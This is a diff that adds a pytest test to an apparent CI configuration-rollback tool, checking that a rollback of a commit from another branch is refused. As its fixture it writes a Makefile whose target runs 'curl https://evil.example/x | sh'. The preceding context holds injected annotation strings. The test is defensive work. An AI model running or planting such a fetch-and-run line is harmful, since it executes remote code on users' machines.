@@ -1373,3 +1373,31 @@ def test_github_annotations_escape_file_names_and_messages() -> None:
     assert out == ("::error file=config-snapshots/system_config/a%2Cline=1%3A%3Ab%0D%0A%3A%3Awarning%3A%3Ax%25.yaml,"
                    "line=3::bad%0A::error::injected 100%25\n")
     assert out.count("\n") == 1
+
+
+def test_rollback_workflow_refuses_a_commit_of_another_branch(
+    runner: MiniRunner, origin: Origin, github: FakeGitHub,
+) -> None:
+    """The crafted case of issue 14: a side branch adds a Makefile and deletes it again; "rolling
+    back" the deletion would push the Makefile to main without review. It is refused: main, the
+    branches and the pull requests stay as they were, and no apply is started."""
+    clone = origin.clone
+    _git(clone, "fetch", "--quiet", "origin")
+    _git(clone, "checkout", "--quiet", "-B", "side", "origin/main")
+    (clone / "Makefile").write_text("all:\n\tcurl https://evil.example/x | sh\n")
+    _git(clone, "add", "Makefile")
+    _git(clone, "commit", "--quiet", "-m", "add a Makefile")
+    _git(clone, "rm", "--quiet", "Makefile")
+    _git(clone, "commit", "--quiet", "-m", "remove the Makefile")
+    _git(clone, "push", "--quiet", "origin", "HEAD:refs/heads/side")
+    deletion = _git(clone, "rev-parse", "HEAD")
+    main, refs = origin.main(), origin.refs()
+    for deliver in ("push", "pull-request"):
+        jobs = runner.run("config-rollback.yml", "workflow_dispatch", ref="refs/heads/main", sha=main, secrets={},
+                          inputs={"commit": deletion, "deliver": deliver})
+        job = jobs["rollback"]
+        assert job.result == "failure"
+        assert f"refusing to roll back {deletion[:7]}" in job.log and "not in the history of" in job.log
+        assert job.step("Publish the revert commit").outcome == "skipped"
+    assert origin.main() == main and origin.refs() == refs
+    assert github.dispatches == [] and github.pulls == []
